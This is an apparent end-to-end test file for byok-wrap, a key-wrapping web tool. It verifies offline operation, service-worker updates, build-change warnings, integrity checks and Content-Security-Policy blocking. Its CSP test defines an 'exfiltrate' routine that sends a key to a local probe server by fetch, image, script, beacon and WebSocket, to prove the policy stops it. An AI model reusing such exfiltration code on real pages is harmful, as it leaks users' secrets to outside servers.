// The two offline forms in Chromium (issue 4 "Offline trust"; README "Offline copies and verification"):
// - the single file dist/byok-wrap.html, alone in a folder, opened from file:// with the network off: a whole
//   ceremony, unwrapped by OpenSSL, without one request or one CSP violation;
// - the PWA: after one visit its service worker serves the app with the network cut, and a whole ceremony
//   works; a newer build waits for "Reload to update" and its activation deletes the old cache;
// - the CSP of both forms stops the page from reaching a listening server (fetch, image, script, beacon,
//   websocket): the browser reports the violations and the server hears nothing.
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, readFileSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join, normalize, resolve, sep } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, BrowserContext, BrowserContextOptions, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openssl, scratch } from '../helpers/openssl.ts';
import { makeIwk, unwrapWithOpenssl } from '../helpers/unwrap.ts';
import { backUpAndCheck, button, download, field, launchBrowser, openApp, SCREENSHOT_DIR, screenshot, serverLog } from './harness.ts';
import { testServer } from './server-state.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const DIST = join(ROOT, 'dist');
/** screenshots of the notices, looked at by hand; an ignored folder (the committed ones are docs/screenshots/) */
const SHOTS = SCREENSHOT_DIR; // test-results/ (ignored), or docs/screenshots/ with SCREENSHOTS=1

async function shot(target: Locator, name: string): Promise<void> {
  mkdirSync(SHOTS, { recursive: true });
  await target.screenshot({ path: join(SHOTS, name), animations: 'disabled', caret: 'hide' });
}
const PASSPHRASE = 'offline copies are checked copies';

let browser: Browser;
const dir = scratch('byok-e2e-offline-');

/** A server the page must never reach: it records every request it gets. */
interface Listener {
  url: string;
  hits: string[];
  /** the folder served (dist/ unless a test publishes another build there) */
  root: string;
  /** files served from dist/, some replaced (to publish "a newer build") */
  overrides: Map<string, Buffer>;
  close(): Promise<void>;
}

async function listen(serveDist: boolean): Promise<Listener> {
  const hits: string[] = [];
  const overrides = new Map<string, Buffer>();
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    const path = decodeURIComponent((req.url ?? '/').split('?')[0]!);
    const root = listener.root;
    const file = normalize(join(root, path.endsWith('/') ? path + 'index.html' : path));
    const body = overrides.get(path) ?? (serveDist && file.startsWith(root + sep) && existsSync(file) && statSync(file).isFile() ? readFileSync(file) : undefined);
    if (body === undefined) {
      res.writeHead(404).end();
      return;
    }
    const types: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.webmanifest': 'application/manifest+json', '.png': 'image/png', '.svg': 'image/svg+xml' };
    res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream', 'cache-control': 'no-store' }).end(body);
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  const { port } = server.address() as AddressInfo;
  const close = (): Promise<void> =>
    new Promise((ok) => {
      server.close(() => ok());
      server.closeAllConnections(); // keep-alive sockets too: afterwards nothing listens on the port
    });
  const listener: Listener = { url: `http://127.0.0.1:${port}/`, hits, root: DIST, overrides, close };
  return listener;
}

/** Every CSP violation in every page of the context, from the first script on (also across reloads). */
async function watchCsp(context: BrowserContext): Promise<string[]> {
  const violations: string[] = [];
  await context.exposeBinding('__byokCspViolation', (_source, v: string) => void violations.push(v));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __byokCspViolation(v: string): void }).__byokCspViolation(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
  return violations;
}

/** Console errors and uncaught exceptions (the browser also logs CSP violations there). */
function watchErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error' || m.type() === 'warning') errors.push(`${m.type()}: ${m.text()}`);
  });
  page.on('pageerror', (e) => errors.push(String(e)));
  return errors;
}

interface Watched {
  context: BrowserContext;
  page: Page;
  /** every URL the browser asked for, the page's own included */
  requests: string[];
  violations: string[];
  errors: string[];
}

/** A fresh context and page at `url`, watched from the first script on; resolves when the app has rendered. */
async function open(url: string, options: BrowserContextOptions = {}): Promise<Watched> {
  const context = await browser.newContext(options);
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  const violations = await watchCsp(context);
  const page = await context.newPage();
  const errors = watchErrors(page);
  await page.goto(url);
  await page.getByRole('heading', { level: 1 }).waitFor();
  return { context, page, requests, violations, errors };
}

const controlledBySw = (page: Page): Promise<unknown> => page.waitForFunction(() => navigator.serviceWorker.controller !== null);

/** Steps 1–5 with an OpenSSL-made wrapping key and token; OpenSSL unwraps the downloaded material. */
async function ceremony(page: Page, spec: 'EC_P256' | 'EC_SM2'): Promise<void> {
  const tag = `${spec}-${randomBytes(4).toString('hex')}`;
  const iwk = makeIwk(spec === 'EC_SM2' ? 'sm2' : 'rsa', dir);
  const keyFile = dir.write(`publickey_${tag}.pem`, iwk.pubPem);
  const tokenFile = dir.write(`token_${tag}.txt`, randomBytes(480).toString('base64'));
  const downloads = dir.path(`downloads-${tag}`);

  await field(page, 'Instance type').selectOption('software');
  await field(page, 'Key spec').selectOption(spec);
  await field(page, 'Wrapping public key').setInputFiles(keyFile);
  await field(page, 'Import token').setInputFiles(tokenFile);
  await expect.poll(() => page.getByTestId('wrapping-key-spec').textContent()).toBe(iwk.kind === 'rsa' ? 'RSA_2048' : 'EC_SM2');
  await button(page, 'Generate new key').click();
  await expect.poll(() => page.getByTestId('target-spec').textContent(), { timeout: 60_000 }).toBe(spec);
  const backup = await backUpAndCheck(page, downloads, PASSPHRASE);
  await button(page, 'Wrap key material').click();
  const material = await download(page, downloads, () => button(page, 'Download key material').click());

  const { tak } = unwrapWithOpenssl(Buffer.from(material.bytes.toString('latin1'), 'base64'), iwk);
  const backupDer = openssl(['pkey', '-in', backup.path, '-passin', `pass:${PASSPHRASE}`, '-outform', 'DER']);
  if (iwk.kind === 'rsa') {
    expect(openssl(['pkey', '-inform', 'DER', '-outform', 'DER'], tak).equals(backupDer)).toBe(true);
  } else {
    expect(tak.length).toBe(32); // the raw scalar D, which the backup's PKCS#8 holds
    expect(backupDer.includes(tak)).toBe(true);
  }
}

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  dir.dispose();
});

describe('single file', () => {
  it('opens alone from file:// with the network off and runs a whole SM2 ceremony: no request, no CSP violation', async () => {
    // As on a USB stick: the one file, nothing next to it.
    const stick = dir.path('stick');
    mkdirSync(stick);
    copyFileSync(join(DIST, 'byok-wrap.html'), join(stick, 'byok-wrap.html'));
    const url = pathToFileURL(join(stick, 'byok-wrap.html')).href;

    const { context, page, requests, violations, errors } = await open(url, { acceptDownloads: true, offline: true });
    expect(await page.locator('meta[name="byok-wrap-form"]').getAttribute('content')).toBe('single-file');

    await ceremony(page, 'EC_SM2');

    // no service worker on file://: the browser refuses one there (and the app does not ask)
    expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then(() => 'allowed', (e: Error) => e.name))).toBe('SecurityError');
    expect(requests.filter((u) => !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([url]);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('PWA', () => {
  it('after one visit, the service worker serves the app with the server gone and the network cut; a whole ceremony works with no CSP violation', async () => {
    // Its own server, so the network can really go away: Chromium's offline emulation does not cover the
    // browser's own update check for the worker script.
    const site = await listen(true);
    const { context, page, violations, errors } = await open(site.url, { acceptDownloads: true });
    await controlledBySw(page);
    expect(await page.evaluate(() => caches.keys())).toEqual([expect.stringMatching(/^byok-wrap-\d+\.\d+\.\d+-[0-9a-f]{16}$/)]);
    // the first visit asked for the app's own files (the page's, then the precache's) and nothing else
    const files = readFileSync(join(DIST, 'SHA256SUMS'), 'utf8').trim().split('\n').map((l) => `GET /${l.slice(66)}`);
    expect(files).toEqual(expect.arrayContaining(site.hits.filter((h) => h !== 'GET /')));

    await site.close();
    await context.setOffline(true);
    const responses: { url: string; fromServiceWorker: boolean }[] = [];
    page.on('response', (r) => responses.push({ url: r.url(), fromServiceWorker: r.fromServiceWorker() }));
    const response = await page.reload();
    expect(response?.fromServiceWorker()).toBe(true);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.evaluate(() => navigator.onLine)).toBe(false);
    expect(await page.locator('#online-warning').count()).toBe(0);

    await ceremony(page, 'EC_P256');

    expect(responses.filter((r) => !r.fromServiceWorker && !r.url.startsWith('blob:'))).toEqual([]);
    expect(responses.length).toBeGreaterThanOrEqual(3); // page, script, stylesheet
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('served by the test harness, the first visit installs the worker and nothing reaches the server afterwards', async () => {
    const s = await openApp(browser); // waits until the service worker is active
    await controlledBySw(s.page);
    expect(s.serverRequestsAfterLoad()).toEqual([]);
    expect(serverLog().map((r) => r.url)).toContain('/sw.js');
    expect(s.blocked).toEqual([]);
    expect(s.pageErrors).toEqual([]);
    await s.close();
  });

  it('a newer build waits for "Reload to update"; taking over, it deletes the old cache', async () => {
    const site = await listen(true);
    const { context, page, violations, errors } = await open(site.url);
    await controlledBySw(page);
    const [oldCache] = await page.evaluate(() => caches.keys());

    // Publish "the next build": the same files, a service worker with another cache name.
    const sw = readFileSync(join(DIST, 'sw.js'), 'utf8');
    const next = sw.replace(/const CACHE_NAME = "byok-wrap-[^"]+";/, 'const CACHE_NAME = "byok-wrap-next-build";');
    expect(next).not.toBe(sw);
    site.overrides.set('/sw.js', Buffer.from(next));
    await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r!.update()));

    const reload = button(page, 'Reload to update');
    await reload.waitFor();
    expect(await page.locator('#update-banner').textContent()).toContain('A new version of byok-wrap is ready.');
    await screenshot(page.locator('#update-banner'), 'update-banner.png');
    // nothing was replaced behind the operator's back
    expect(await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r?.waiting !== null))).toBe(true);
    expect(await page.evaluate(() => caches.keys())).toEqual(expect.arrayContaining([oldCache, 'byok-wrap-next-build']));

    await Promise.all([page.waitForEvent('load'), reload.click()]);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.locator('#update-banner').count()).toBe(0);
    expect(await page.evaluate(() => caches.keys())).toEqual(['byok-wrap-next-build']);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
    await site.close();
  });
});

// Issue 8 §4: no silent replacement of the app. A second build B of the same source with another commit,
// published at the same origin (PWA) or copied over the same file (single file).
describe('a different build', () => {
  const COMMIT_B = createHash('sha1').update('byok-wrap e2e build B').digest('hex');
  let distB: string;
  let A: { version: string; commit: string };
  const stamp = (html: string): { version: string; commit: string } => ({
    version: /<meta name="byok-wrap-version" content="([^"]+)"/.exec(html)![1]!,
    commit: /<meta name="byok-wrap-commit" content="([^"]+)"/.exec(html)![1]!,
  });

  beforeAll(() => {
    distB = dir.path('dist-b');
    // the production build, in its own process (vitest runs with NODE_ENV=test, which the build refuses)
    execFileSync(process.execPath, [join(ROOT, 'node_modules/vite/bin/vite.js'), 'build', '--logLevel', 'warn', '--outDir', distB, '--emptyOutDir'], {
      cwd: ROOT,
      env: { ...process.env, NODE_ENV: 'production', BYOK_COMMIT: COMMIT_B },
      stdio: ['ignore', 'inherit', 'inherit'],
    });
    A = stamp(readFileSync(join(DIST, 'index.html'), 'utf8'));
    expect(stamp(readFileSync(join(distB, 'index.html'), 'utf8'))).toEqual({ version: A.version, commit: COMMIT_B });
    expect(A.commit).not.toBe(COMMIT_B);
  });

  const storedBuild = (page: Page): Promise<unknown> => page.evaluate(() => JSON.parse(localStorage.getItem('byok-wrap.build') ?? 'null'));

  /** "old → new" with both versions and commits; key operations wait until acknowledged. */
  async function expectChangeBlocks(page: Page): Promise<void> {
    const notice = page.locator('#build-change');
    await notice.waitFor();
    expect(await notice.getAttribute('data-build-change')).toBe('pending');
    expect(await notice.getAttribute('role')).toBe('alert');
    expect(await page.getByTestId('build-previous').textContent()).toBe(`version ${A.version}, commit ${A.commit}`);
    expect(await page.getByTestId('build-current').textContent()).toBe(`version ${A.version}, commit ${COMMIT_B}`);
    expect((await notice.locator('.build-arrow').textContent())?.replace(/\s+/g, ' ').trim()).toBe(`${A.version} ${A.commit} →changed to ${A.version} ${COMMIT_B}`);
    // the self-test passes, yet generation, loading, backup and wrapping wait
    await expect.poll(() => page.locator('#self-test').getAttribute('data-status').catch(() => null), { timeout: 30_000 }).not.toBe('running');
    expect(await button(page, 'Generate new key').isDisabled()).toBe(true);
    expect(await button(page, 'Load pasted key').isDisabled()).toBe(true);
    expect(await page.locator('#wrap-blockers [data-blocker="buildChange"]').count()).toBe(1);
    expect(await page.locator('#step-3 [role="alert"]').first().textContent()).toContain('a different build of byok-wrap started');
    // nothing is remembered until the operator acknowledges: reopening shows the same notice
    expect(await storedBuild(page)).toEqual(A);
  }

  async function acknowledge(page: Page): Promise<void> {
    await button(page, 'Acknowledge the new build').click();
    await expect.poll(() => page.locator('#build-change').getAttribute('data-build-change')).toBe('acknowledged');
    expect(await page.locator('#build-change').textContent()).toContain(`commit ${COMMIT_B} is now the build this browser remembers`);
    expect(await button(page, 'Generate new key').isDisabled()).toBe(false);
    expect(await page.locator('#wrap-blockers [data-blocker="buildChange"]').count()).toBe(0);
    expect(await storedBuild(page)).toEqual({ version: A.version, commit: COMMIT_B });
  }

  it('PWA: the first start is remembered; build B installed in the background starts with "old → new" and blocks key operations until acknowledged; the worker\'s own requests are counted', async () => {
    const site = await listen(true);
    const { context, page, violations } = await open(site.url);
    await controlledBySw(page);
    // first start: said, remembered, nothing blocked
    expect((await page.locator('#build-first').textContent())?.trim()).toBe(
      `First start of this build on this browser: version ${A.version}, commit ${A.commit}. The browser remembers it (version and commit only), so that a different build is shown before it is used.`,
    );
    expect(await page.locator('#build-change').count()).toBe(0);
    expect(await storedBuild(page)).toEqual(A);
    expect(await button(page, 'Generate new key').isDisabled()).toBe(false);

    // the worker fetched every listed file once; the page's own count cannot see those, the panel's next line does
    const precached = readFileSync(join(DIST, 'SHA256SUMS'), 'utf8').trim().split('\n').map((l) => l.slice(66)).filter((f) => f !== 'sw.js');
    const workerCount = page.getByTestId('airgap-worker-requests');
    await expect.poll(() => workerCount.getAttribute('data-count')).toBe(String(precached.length));
    // its own origin only, so the list names paths
    expect(await workerCount.locator('li code').allTextContents()).toEqual(precached.map((f) => `/${f}`));
    expect(await workerCount.locator('span').first().textContent()).toBe(`${precached.length} requests by the service worker since this page opened`);
    await workerCount.locator('summary').click();
    for (const width of [1366, 390]) {
      await page.setViewportSize({ width, height: 900 });
      await shot(page.locator('#air-gap'), `air-gap-worker-${width}.png`);
    }
    await page.setViewportSize({ width: 1100, height: 900 });

    // B on the same origin; the browser's update check installs it in the background
    site.root = distB;
    await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r!.update()));
    await button(page, 'Reload to update').waitFor();
    // its download is counted too
    await expect.poll(() => workerCount.getAttribute('data-count')).toBe(String(2 * precached.length));

    // closed without "Reload to update": on the next open B runs (what the issue calls the silent replacement)
    // (The browser activates the waiting worker once the last page of the old one is gone, which it notices a
    // moment after the tab closes: an open that comes sooner still gets build A, as a user's could.)
    await page.close();
    let next!: Page;
    for (let attempt = 0; ; attempt++) {
      next = await context.newPage();
      await next.goto(site.url);
      await next.getByRole('heading', { level: 1 }).waitFor();
      if (stamp(await next.content()).commit === COMMIT_B || attempt === 20) break;
      await next.close();
      await new Promise((ok) => setTimeout(ok, 250));
    }
    expect(stamp(await next.content()).commit).toBe(COMMIT_B);
    await expectChangeBlocks(next);
    for (const width of [1366, 390]) {
      await next.setViewportSize({ width, height: 900 });
      await shot(next.locator('#build-change'), `build-change-${width}.png`);
    }
    await next.setViewportSize({ width: 1100, height: 900 });
    // still unacknowledged after a reload
    await next.reload();
    await expectChangeBlocks(next);
    await acknowledge(next);
    await next.reload();
    await next.getByRole('heading', { level: 1 }).waitFor();
    expect(await next.locator('#build-change, #build-first').count()).toBe(0);
    // B's worker fetched nothing for this page: its files were saved while A's page was open
    await expect.poll(() => next.getByTestId('airgap-worker-requests').getAttribute('data-count')).toBe('0');
    expect((await next.getByTestId('airgap-worker-requests').textContent())?.trim()).toBe('0 requests by the service worker since this page opened');
    expect(violations).toEqual([]);
    await context.close();
    await site.close();
  });

  it('single file: byok-wrap.html of build B copied over build A\'s shows "old → new" on file:// and blocks until acknowledged', async () => {
    const stick = dir.path('stick-ab');
    mkdirSync(stick);
    const file = join(stick, 'byok-wrap.html');
    const url = pathToFileURL(file).href;
    copyFileSync(join(DIST, 'byok-wrap.html'), file);
    const { context, page, violations, errors } = await open(url, { offline: true });
    await page.locator('#build-first').waitFor();
    expect(await storedBuild(page)).toEqual(A);
    expect(await page.getByTestId('airgap-worker-requests').textContent()).toBe('none: this copy has no service worker');
    await page.close();

    copyFileSync(join(distB, 'byok-wrap.html'), file);
    const next = await context.newPage();
    await next.goto(url);
    await expectChangeBlocks(next);
    await acknowledge(next);
    await next.close();

    // Chromium keeps one localStorage for every file:// page: build A opened from another folder is seen too
    const elsewhere = dir.path('stick-other');
    mkdirSync(elsewhere);
    copyFileSync(join(DIST, 'byok-wrap.html'), join(elsewhere, 'byok-wrap.html'));
    const third = await context.newPage();
    await third.goto(pathToFileURL(join(elsewhere, 'byok-wrap.html')).href);
    await third.locator('#build-change').waitFor();
    expect(await third.getByTestId('build-previous').textContent()).toBe(`version ${A.version}, commit ${COMMIT_B}`);
    expect(await third.getByTestId('build-current').textContent()).toBe(`version ${A.version}, commit ${A.commit}`);
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('offline copy integrity', () => {
  it('a file that does not match its SHA-256 fails the install: the page says so and no partial cache is left', async () => {
    const site = await listen(true);
    // the page's own files are intact (the page runs); another listed file is not
    site.overrides.set('/byok-wrap.html', Buffer.from('<!doctype html><title>not the build</title>'));
    const { context, page } = await open(site.url);
    const notice = page.locator('#install-failed');
    await notice.waitFor({ timeout: 30_000 });
    expect(await notice.getAttribute('role')).toBe('alert');
    const text = (await notice.textContent())!.replace(/\s+/g, ' ');
    expect(text).toContain('The offline copy could not be verified');
    expect(text).toContain(`${site.url}byok-wrap.html could not be downloaded, or its content did not match the SHA-256 this build lists. Nothing was kept`);
    expect(text).toContain('What to do: do not use the files on this server for a ceremony.');
    expect(await page.evaluate(() => caches.keys())).toEqual([]);
    expect(await page.evaluate(() => navigator.serviceWorker.getRegistration().then((r) => r?.active ?? null))).toBeNull();
    expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
    // the worker's requests are counted, the refused one marked
    const worker = page.getByTestId('airgap-worker-requests');
    expect(Number(await worker.getAttribute('data-count'))).toBeGreaterThan(0);
    expect(await worker.locator('li', { hasText: '/byok-wrap.html' }).textContent()).toContain('refused or failed');
    for (const width of [1366, 390]) {
      await page.setViewportSize({ width, height: 900 });
      await shot(notice, `install-failed-${width}.png`);
    }
    await context.close();
    await site.close();
  });

  it('a listed file missing from the cache is fetched with its integrity: a changed file is refused, an intact one served; both counted', async () => {
    const site = await listen(true);
    const { context, page } = await open(site.url);
    await controlledBySw(page);
    const worker = page.getByTestId('airgap-worker-requests');
    await expect.poll(() => worker.getAttribute('data-count')).not.toBe('');
    const before = Number(await worker.getAttribute('data-count'));
    // evicted by the browser, as under storage pressure
    await page.evaluate(async () => {
      const [name] = await caches.keys();
      const cache = await caches.open(name!);
      for (const f of ['icon.svg', 'icon-192.png']) await cache.delete(new URL(f, location.href).href);
    });
    const other = '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>';
    site.overrides.set('/icon.svg', Buffer.from(other));
    const loadImage = (src: string): Promise<string> =>
      page.evaluate(
        (s) =>
          new Promise<string>((ok) => {
            const img = new Image();
            img.onload = () => ok('loaded');
            img.onerror = () => ok('refused');
            img.src = s;
          }),
        src,
      );
    const hits = site.hits.length;
    expect(await loadImage('icon.svg')).toBe('refused');
    expect(await loadImage('icon-192.png')).toBe('loaded');
    expect(site.hits.slice(hits)).toEqual(['GET /icon.svg', 'GET /icon-192.png']);
    await expect.poll(() => worker.getAttribute('data-count')).toBe(String(before + 2));
    const items = await worker.locator('li').allTextContents();
    const fallbacks = items.map((i) => i.replace(/\s+/g, ' ').trim()).filter((i) => i.includes('(missing from the offline copy)'));
    expect(fallbacks).toEqual(['/icon.svg (missing from the offline copy), refused or failed', '/icon-192.png (missing from the offline copy)']);
    // the install's requests finished well
    expect(items.filter((i) => i.includes('(saving the offline copy)') && i.includes('refused'))).toEqual([]);
    await context.close();
    await site.close();
  });
});

describe('Content-Security-Policy', () => {
  // What an injected script (a compromised dependency, a pasted console snippet) would try first.
  const exfiltrate = async (target: string): Promise<string[]> => {
    const tried: string[] = [];
    await fetch(`${target}fetch`, { mode: 'no-cors' }).then(
      () => tried.push('fetch sent'),
      () => tried.push('fetch refused'),
    );
    const img = new Image();
    img.src = `${target}img`;
    const script = document.createElement('script');
    script.src = `${target}script.js`;
    document.head.append(script);
    tried.push(`beacon ${navigator.sendBeacon(`${target}beacon`, 'key') ? 'queued' : 'refused'}`);
    try {
      new WebSocket(`${target.replace('http:', 'ws:')}ws`);
    } catch {
      tried.push('websocket refused');
    }
    await new Promise((ok) => setTimeout(ok, 500));
    return tried;
  };

  for (const form of ['PWA over http', 'single file on file://'] as const) {
    it(`${form}: a request to a listening server is blocked and reported; the server hears nothing`, async () => {
      const probe = await listen(false);
      // no request routing: only the CSP stands in the way
      const { context, page, violations } = await open(form === 'PWA over http' ? testServer.baseUrl : pathToFileURL(join(DIST, 'byok-wrap.html')).href);
      expect(violations).toEqual([]);

      const tried = await page.evaluate(exfiltrate, probe.url);
      expect(tried).toContain('fetch refused');
      await expect.poll(() => new Set(violations.map((v) => v.split(' ')[0])).size).toBeGreaterThanOrEqual(3);
      const blocked = violations.map((v) => v.split(' '));
      for (const [directive, path] of [
        ['connect-src', 'fetch'],
        ['img-src', 'img'],
        ['script-src-elem', 'script.js'],
        ['connect-src', 'beacon'],
      ])
        expect(blocked, `${directive} ${path}`).toContainEqual([directive, `${probe.url}${path}`]);
      expect(probe.hits).toEqual([]);
      await context.close();
      await probe.close();
    });
  }
});
